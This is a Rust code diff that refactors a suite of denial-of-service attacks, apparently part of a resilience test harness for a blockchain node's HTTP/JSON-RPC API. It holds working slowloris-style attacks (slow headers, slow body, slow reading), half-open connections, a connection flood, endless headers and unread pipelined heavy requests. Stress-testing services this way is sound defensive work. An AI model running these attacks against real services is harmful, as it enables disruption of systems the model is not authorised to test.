@@ -6,17 +6,23 @@ use std::{
 };
 
 use anyhow::{Context, Result};
-use futures::future::BoxFuture;
 use tokio::{
     io::{AsyncReadExt, AsyncWriteExt},
     net::{TcpSocket, TcpStream},
     time::{sleep, timeout},
 };
 
-use super::attack::{Attack, AttackContext, AttackInfo, AttackSurface};
+use super::attack::{Attack, AttackContext, AttackInfo, AttackSurface, FnAttack};
 
-pub(super) const ALL: &[&dyn Attack] =
-    &[&SlowHeaders, &SlowBody, &SlowReader, &HalfOpen, &ConnectionFlood, &EndlessHeaders, &PipelineUnread];
+pub(super) const ALL: &[&dyn Attack] = &[
+    &SLOW_HEADERS,
+    &SLOW_BODY,
+    &SLOW_READER,
+    &HALF_OPEN,
+    &CONNECTION_FLOOD,
+    &ENDLESS_HEADERS,
+    &PIPELINE_UNREAD,
+];
 
 /// Attackers of one attack, with one connection each: more than the node has places for callers.
 const MANY: usize = 400;
@@ -59,19 +65,14 @@ pub(super) async fn linger(stream: &mut TcpStream) {
     let _ = timeout(PATIENCE, stream.read(&mut rest)).await;
 }
 
-struct SlowHeaders;
-
-impl Attack for SlowHeaders {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "slow-headers",
-            "400 connections that send one byte of their headers per second",
-        )
-        .quick()
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const SLOW_HEADERS: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "slow-headers",
+        "400 connections that send one byte of their headers per second",
+    )
+    .quick(),
+    start: |field| {
         Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await?;
@@ -81,21 +82,16 @@ impl Attack for SlowHeaders {
                 stream.write_all(b"a").await?;
             }
         }))
-    }
-}
+    },
+};
 
-struct SlowBody;
-
-impl Attack for SlowBody {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "slow-body",
-            "400 connections that announce a body and send one byte of it per second",
-        )
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const SLOW_BODY: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "slow-body",
+        "400 connections that announce a body and send one byte of it per second",
+    ),
+    start: |field| {
         Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(post(1 << 20).as_bytes()).await?;
@@ -105,8 +101,8 @@ impl Attack for SlowBody {
                 sleep(Duration::from_secs(1)).await;
             }
         }))
-    }
-}
+    },
+};
 
 /// Returns a request with a long answer: a batch with all of its transactions.
 fn heavy_question(field: &AttackContext) -> String {
@@ -114,18 +110,13 @@ fn heavy_question(field: &AttackContext) -> String {
     format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["{number:#x}",true]}}"#)
 }
 
-struct SlowReader;
-
-impl Attack for SlowReader {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "slow-reader",
-            "60 connections that request a long answer and read 100 bytes of it per second",
-        )
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const SLOW_READER: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "slow-reader",
+        "60 connections that request a long answer and read 100 bytes of it per second",
+    ),
+    start: |field| {
         Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             let body = heavy_question(&field);
@@ -137,18 +128,16 @@ impl Attack for SlowReader {
                 sleep(Duration::from_secs(1)).await;
             }
         }))
-    }
-}
+    },
+};
 
-struct PipelineUnread;
-
-impl Attack for PipelineUnread {
-    fn facts(&self) -> AttackInfo {
-        let about = "60 connections that keep requesting a long answer and read nothing";
-        AttackInfo::new(AttackSurface::Http, "pipeline-unread", about)
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const PIPELINE_UNREAD: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "pipeline-unread",
+        "60 connections that keep requesting a long answer and read nothing",
+    ),
+    start: |field| {
         Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             let body = heavy_question(&field);
@@ -161,21 +150,16 @@ impl Attack for PipelineUnread {
             }
             Ok(())
         }))
-    }
-}
+    },
+};
 
-struct HalfOpen;
-
-impl Attack for HalfOpen {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "half-open",
-            "1,000 silent connections, half of them closed for writing",
-        )
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const HALF_OPEN: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "half-open",
+        "1,000 silent connections, half of them closed for writing",
+    ),
+    start: |field| {
         Box::pin(field.swarm(1_000, Duration::from_secs(1), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             field.tally.done();
@@ -185,42 +169,32 @@ impl Attack for HalfOpen {
             linger(&mut stream).await;
             Ok(())
         }))
-    }
-}
+    },
+};
 
-struct ConnectionFlood;
-
-impl Attack for ConnectionFlood {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "connection-flood",
-            "2,000 connections a second that are opened and dropped",
-        )
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const CONNECTION_FLOOD: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "connection-flood",
+        "2,000 connections a second that are opened and dropped",
+    ),
+    start: |field| {
         Box::pin(field.swarm(40, Duration::from_millis(20), |field, index| async move {
             let stream = connect(field.target.api, AttackContext::address(index)).await?;
             // Resets instead of closing, so that no port of the attackers stays in TIME_WAIT.
             stream.set_zero_linger()?;
             Ok(())
         }))
-    }
-}
+    },
+};
 
-struct EndlessHeaders;
-
-impl Attack for EndlessHeaders {
-    fn facts(&self) -> AttackInfo {
-        AttackInfo::new(
-            AttackSurface::Http,
-            "endless-headers",
-            "50 connections that send endless headers, as fast as the node reads",
-        )
-    }
-
-    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
+const ENDLESS_HEADERS: FnAttack = FnAttack {
+    info: AttackInfo::new(
+        AttackSurface::Http,
+        "endless-headers",
+        "50 connections that send endless headers, as fast as the node reads",
+    ),
+    start: |field| {
         Box::pin(field.swarm(50, Duration::from_millis(100), |field, index| async move {
             let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\n").await?;
@@ -231,5 +205,5 @@ impl Attack for EndlessHeaders {
                 sleep(Duration::from_millis(5)).await;
             }
         }))
-    }
-}
+    },
+};
